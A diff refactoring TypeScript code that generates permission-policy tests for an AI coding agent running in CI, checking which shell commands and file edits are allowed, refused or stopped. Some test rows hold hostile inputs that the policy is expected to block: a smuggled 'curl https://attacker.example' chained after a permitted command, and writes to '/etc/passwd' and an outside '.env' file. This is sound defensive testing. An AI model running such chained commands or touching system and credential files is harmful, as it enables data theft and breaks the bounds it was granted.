@@ -73,82 +73,63 @@ function tests({ trigger, commands, paths }: PolicyAnswers): readonly string[] {
   const own = `{ event: ${trigger}, fork: false, actor: { permission: write } }`;
   const [first = 'npm test'] = commands;
   const sample = (path: string): string => path.replace('**', 'some-file');
-  const allowed = [
-    ...commands.map((command) => shellTest(`it may run ${command}`, own, command, 'allow_once, rule: run-commands')),
-    ...paths.map((path) => pathTest(`it may edit ${path}`, own, sample(path), 'allow_once, rule: edit-files')),
-    ...paths
-      .slice(0, 1)
-      .map((path) =>
-        agentTest('a real agent may as well', own, { inside: sample(path) }, 'allow_once, rule: edit-files-inside'),
-      ),
-  ];
-  const refused = [
-    shellTest(
-      'no other command rides along',
-      own,
-      `${first}; curl https://attacker.example`,
-      'reject_once, rule: default',
-    ),
+  const [edited] = paths.map(sample);
+  const fork = '{ event: pull_request, fork: true, actor: { permission: write } }';
+  const rows: readonly TestRow[] = [
+    ...commands.map((one): TestRow => [`it may run ${one}`, own, shell(one), 'allow_once, rule: run-commands']),
+    ...paths.map((one): TestRow => [`it may edit ${one}`, own, write(sample(one)), 'allow_once, rule: edit-files']),
+    ...(edited === undefined ? [] : agentTests(own, edited)),
+    ['no other command rides along', own, shell(`${first}; curl https://attacker.example`), refused],
     ...(commands.length === 0 ? [] : placeTests(own, first)),
     ...(paths.length === 0 ? [] : workflowTests(own)),
-    pathTest('nothing outside is edited', own, 'some-other-folder/.env', 'reject_once, rule: default'),
-    shellTest(
-      'a fork gets nothing',
-      '{ event: pull_request, fork: true, actor: { permission: write } }',
-      first,
-      'reject_once, rule: never-from-forks',
-    ),
-    shellTest('on a laptop a person is asked', '{}', first, 'reject_once, rule: default'),
+    ['nothing outside is edited', own, write('some-other-folder/.env'), refused],
+    ['a fork gets nothing', fork, shell(first), 'reject_once, rule: never-from-forks'],
+    ['on a laptop a person is asked', '{}', shell(first), refused],
   ];
-  return [...allowed, ...refused];
+  return rows.map(toTest);
+}
+
+type TestRow = readonly [name: string, context: string, pause: string, expected: string];
+
+const refused = 'reject_once, rule: default';
+
+function agentTests(context: string, path: string): readonly TestRow[] {
+  return [['a real agent may as well', context, writeInside(path), 'allow_once, rule: edit-files-inside']];
 }
 
 /** Tests that the same command is refused where an intern may have planted what it runs. */
-function placeTests(context: string, command: string): readonly string[] {
-  const operation = `operation: ${quoted(`shell command: ${command}`)}`;
-  const refused = 'reject_once, rule: default';
+function placeTests(context: string, command: string): readonly TestRow[] {
   return [
-    test('not in another folder', context, `${operation}, inside: [some-other-folder]`, refused),
-    test('nor with variables of its own', context, `${operation}, env: { PATH: some-other-folder }`, refused),
+    ['not in another folder', context, `${shell(command)}, inside: [some-other-folder]`, refused],
+    ['nor with variables of its own', context, `${shell(command)}, env: { PATH: some-other-folder }`, refused],
   ];
 }
 
-function workflowTests(context: string): readonly string[] {
+function workflowTests(context: string): readonly TestRow[] {
   const path = '.github/workflows/ci.yml';
   const guard = 'never-touch-workflows';
+  const outside = `${write('/etc/passwd')}, outside: ["/etc/passwd"]`;
   return [
-    pathTest('a workflow stops the run', context, path, `stop, rule: ${guard}`),
-    agentTest('so does that of a real agent', context, { inside: path }, `stop, rule: ${guard}-inside`),
-    agentTest('and a file that is elsewhere', context, { outside: '/etc/passwd' }, 'stop, rule: nothing-outside'),
+    ['a workflow stops the run', context, write(path), `stop, rule: ${guard}`],
+    ['so does that of a real agent', context, writeInside(path), `stop, rule: ${guard}-inside`],
+    ['and a file that is elsewhere', context, outside, 'stop, rule: nothing-outside'],
   ];
 }
 
-/** Tests the question of a real agent, which says where a path lies. */
-function agentTest(
-  name: string,
-  context: string,
-  lies: { inside: string } | { outside: string },
-  expected: string,
-): string {
-  const [[where, path] = ['', '']] = Object.entries(lies);
-  const absolute = where === 'inside' ? `/work/app/${path}` : path;
-  return test(
-    name,
-    context,
-    `operation: fs.write, paths: [${quoted(absolute)}], ${where}: [${quoted(path)}]`,
-    expected,
-  );
+function shell(command: string): string {
+  return `operation: ${quoted(`shell command: ${command}`)}`;
 }
 
-function shellTest(name: string, context: string, command: string, expected: string): string {
-  return test(name, context, `operation: ${quoted(`shell command: ${command}`)}`, expected);
+function write(path: string): string {
+  return `operation: fs.write, paths: [${quoted(path)}]`;
 }
 
-function pathTest(name: string, context: string, path: string, expected: string): string {
-  return test(name, context, `operation: fs.write, paths: [${quoted(path)}]`, expected);
+/** Writes the question of a real agent, which says where a path lies. */
+function writeInside(path: string): string {
+  return `${write(`/work/app/${path}`)}, inside: [${quoted(path)}]`;
 }
 
-function test(name: string, context: string, pause: string, expected: string): string {
+function toTest([name, context, pause, expected]: TestRow): string {
   return `  - name: ${quoted(name)}
     context: ${context}
     pause: { kind: permission, ${pause}, options: [allow_once, reject_once] }
